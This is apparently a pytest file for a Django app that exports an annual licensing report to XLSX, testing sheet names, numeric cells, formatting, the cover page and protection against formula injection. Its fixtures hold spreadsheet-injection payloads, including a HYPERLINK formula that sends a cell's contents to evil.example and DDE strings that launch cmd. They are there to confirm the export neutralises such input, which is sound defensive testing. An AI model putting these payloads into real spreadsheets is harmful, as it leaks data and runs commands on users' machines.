"""The report as an XLSX workbook: a cover, a sheet per section with real numbers, the written part, and
no text that a spreadsheet would run as a formula."""

import datetime as dt
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from reports.document import ReportDocument, draft_document
from reports.exports import render_xlsx
from reports.figures import Period, report_figures
from reports.figures.common import SMALL, chart, section, table
from reports.models import AnnualReport

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _figures() -> dict:
    reasons = table(
        "reasons",
        "不予受理理由",
        ["理由", "件数", "占比 (%)"],
        [
            ("a", [HOSTILE, 3, 37.5]),
            ("b", ["+cmd|' /C calc'!A0", 2, 25.0]),
            ("c", ["@SUM(1,2)", 1, 12.5]),
            ("d", ["-2+3", 1, 12.5]),
            ("e", ["\t=1+1", 1, 12.5]),
            ("f", ["材料不全", 0, None]),
        ],
        total=["合计", 8, 100.0],
    )
    prefectures = table(
        "prefectures",
        "按地市",
        ["地市", "持证人数"],
        [("harbin", ["哈尔滨市", 12]), ("daxinganling", ["大兴安岭地区", SMALL])],
        total=["合计", 14],
    )
    first = section(
        "applications",
        1,
        "申请受理情况",
        tables=[reasons, prefectures],
        charts=[chart("c", "图", "bar", ["1月"], [("申请", [8])])],
        notes=["=1+2 说明"],
    )
    # Titles that collide once cut to 31 characters, and characters a sheet name may not hold.
    long_title = "注册证书有效情况：按等级、地市、计量类别和项目统计的年末数量以及变动"
    second = section("certificates", 2, long_title + "甲", tables=[])
    third = section("more", 2, long_title + "乙", empty="尚无数据。")
    fourth = section("odd", 4, "考核[理论]/实操:*?\\ 合格率", tables=[])
    return {
        "schema": 1,
        "period": {
            "start": "2025-01-01",
            "end": "2025-12-31",
            "as_of": "2025-12-31",
            "year": 2025,
            "label": "2025年度",
        },
        "computed_at": "2026-01-05T10:00:00+08:00",
        "sections": [first, second, third, fourth],
    }


def _document(**kwargs) -> ReportDocument:
    values = {
        "figures": _figures(),
        "work_done": "全年受理申请 8 件。",
        "problems": "=cmd|'/C calc'!A0\n- 材料退回较多",
        "suggestions": "",
    }
    values.update(kwargs)
    return ReportDocument(**values)


def _zh(msgid: str) -> str:
    """The interface's Chinese for a label of the workbook (the translations live in locale/)."""
    with translation.override("zh-hans"):
        return gettext(msgid)


def _book(document: ReportDocument):
    with translation.override("zh-hans"):
        data = render_xlsx(document)
    assert data[:2] == b"PK"
    return load_workbook(io.BytesIO(data))


def _cells(sheet) -> list:
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _find(sheet, value):
    return next(cell for cell in _cells(sheet) if cell.value == value)


def test_sheets_are_named_in_chinese_within_excels_rules():
    book = _book(_document())
    names = book.sheetnames
    assert len(names) == 6  # cover, four sections, the written part
    assert names[0] == _zh("Cover")
    assert names[1] == "1 申请受理情况"
    assert names[-1].startswith("6 ")
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert len(name) <= 31
        assert not set(name) & set("[]:*?/\\'")
    # the two long titles that are equal in their first 31 characters got distinct names
    assert names[2] != names[3]
    assert names[3].endswith("(2)")


def test_numbers_are_numbers_and_small_counts_stay_text():
    sheet = _book(_document()).worksheets[1]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    reasons = next(r for r in rows if r[0] == "材料不全")
    assert reasons[1] == 0
    assert type(reasons[1]) is int
    assert reasons[2] is None  # no value: an empty cell, not "None" or "—"
    three = _find(sheet, 37.5)
    assert type(three.value) is float
    assert three.number_format == "0.0"
    assert three.data_type == "n"
    total = next(r for r in rows if r[0] == "合计" and r[1] == 8)
    assert total[2] == 100.0
    small = next(r for r in rows if r[0] == "大兴安岭地区")
    assert small[1] == "<3"
    harbin = next(r for r in rows if r[0] == "哈尔滨市")
    assert harbin[1] == 12
    assert isinstance(harbin[1], int)


def test_header_and_total_rows_are_bold_and_the_header_is_frozen():
    sheet = _book(_document()).worksheets[1]
    assert _find(sheet, "件数").font.b
    assert next(c for c in _cells(sheet) if c.value == 8 and c.column == 2).font.b  # the total row
    assert not _find(sheet, 37.5).font.b
    header_row = _find(sheet, "件数").row
    assert sheet.freeze_panes == f"B{header_row + 1}"
    assert sheet.column_dimensions["A"].width >= 8


def test_no_text_runs_as_a_formula():
    book = _book(_document())
    hostile = [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\t=1+1", "=1+2 说明"]
    section_sheet = book.worksheets[1]
    for value in hostile:
        cell = _find(section_sheet, value)
        assert cell.data_type != "f", value
        assert cell.data_type == "s"
        assert cell.quotePrefix, value  # shown as typed, still text when edited
    assert not _find(section_sheet, "材料不全").quotePrefix
    for sheet in book.worksheets:
        for cell in _cells(sheet):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    written = book.worksheets[-1]
    problems = _find(written, "=cmd|'/C calc'!A0\n- 材料退回较多")
    assert problems.data_type == "s"
    assert problems.quotePrefix


def test_the_cover_and_the_written_part():
    submitted = dt.datetime(2026, 1, 6, 1, 30, tzinfo=dt.UTC)
    document = _document(version=2, submitted_by="王芳", submitted_at=submitted)
    book = _book(document)
    cover = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows(min_row=3) if row[0].value}
    assert cover[_zh("Version")] == 2
    assert cover[_zh("Submitted by")] == "王芳"
    assert cover[_zh("Submitted at")] == "2026-01-06 09:30"  # Beijing time
    assert cover[_zh("Checksum (SHA-256)")] == document.checksum
    assert cover[_zh("Period")] == "2025-01-01 — 2025-12-31"
    assert book.worksheets[0]["A1"].value == document.title
    written = [c.value for c in _cells(book.worksheets[-1])]
    assert "全年受理申请 8 件。" in written
    assert _zh("(Not written.)") in written  # the empty suggestions say so
    assert _zh("Suggestions") in written

    draft = _book(_document())
    cover = {row[0].value: row[1].value for row in draft.worksheets[0].iter_rows(min_row=3) if row[0].value}
    assert cover[_zh("Version")] == "草稿"
    assert cover[_zh("Submitted by")] is None


def test_characters_xml_cannot_hold_do_not_break_the_export():
    document = _document(work_done="正常\x07文字")
    written = [c.value for c in _cells(_book(document).worksheets[-1])]
    assert "正常\N{REPLACEMENT CHARACTER}文字" in written


@pytest.mark.django_db
def test_the_real_figures_of_an_empty_year_export(workday_calendar):
    report = AnnualReport.objects.create(year=2025, work_done="工作")
    with translation.override("zh-hans"):
        figures = report_figures(Period.of_year(2025, today=dt.date(2026, 1, 5)))
    book = _book(draft_document(report, figures))
    assert len(book.sheetnames) == len(figures["sections"]) + 2
    for sheet, section_ in zip(book.worksheets[1:-1], figures["sections"], strict=True):
        assert sheet.title.startswith(str(section_["number"]))
        assert _find(sheet, f"{section_['number']}. {section_['title']}")
